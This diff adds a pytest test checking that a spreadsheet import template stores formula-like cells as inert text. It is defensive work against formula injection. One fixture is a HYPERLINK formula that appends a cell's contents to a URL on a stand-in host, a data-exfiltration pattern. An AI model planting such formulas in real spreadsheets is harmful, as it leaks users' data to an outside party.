@@ -37,3 +37,19 @@ def test_semicolon_and_tab_separated_csv():
 def test_bad_files_get_a_clear_message(data, fragment):
     with pytest.raises(Invalid, match=fragment.replace(".", r"\.")):
         spreadsheets.read_rows(data)
+
+
+def test_the_import_template_never_holds_a_live_formula():
+    import io
+
+    from openpyxl import load_workbook
+
+    from meeting.spreadsheets import template_xlsx
+
+    data = template_xlsx(
+        [("姓名", "张三", 8, ()), ('=HYPERLINK("http://x.test/?"&A2,"x")', "=1+1", 8, ())]
+    )
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [sheet.cell(row=r, column=c) for r in (1, 2) for c in (1, 2)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert sheet.cell(row=1, column=2).value.startswith("=HYPERLINK")
